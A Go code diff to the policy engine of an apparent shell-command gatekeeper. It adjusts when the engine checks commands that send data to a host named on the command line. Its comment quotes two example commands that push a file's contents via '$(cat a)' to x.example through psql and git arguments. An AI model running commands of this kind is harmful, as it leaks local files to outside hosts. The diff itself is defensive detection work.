@@ -1,6 +1,7 @@
 package engine
 
 import (
+	"slices"
 	"strings"
 
 	"github.com/bashgate/bashgate/internal/match"
@@ -8,12 +9,13 @@ import (
 )
 
 // sends judges the words of a command that talks to a machine which the line
-// names: what is not known of them may go there.
+// names: what is not known of them may go there. Where a rule asks, it asks about
+// all of the command.
 //
 //	psql -h x.example -U "$(cat a)"
 //	git ls-remote -o "$(cat a)" https://x.example/y
 func (j *judge) sends(n *Node, c *match.Call) {
-	if len(n.talks) == 0 {
+	if len(n.talks) == 0 || slices.ContainsFunc(c.Held, func(h match.Held) bool { return h.Decision > policy.Allow }) {
 		return
 	}
 	for _, w := range n.command.Words[1:] {
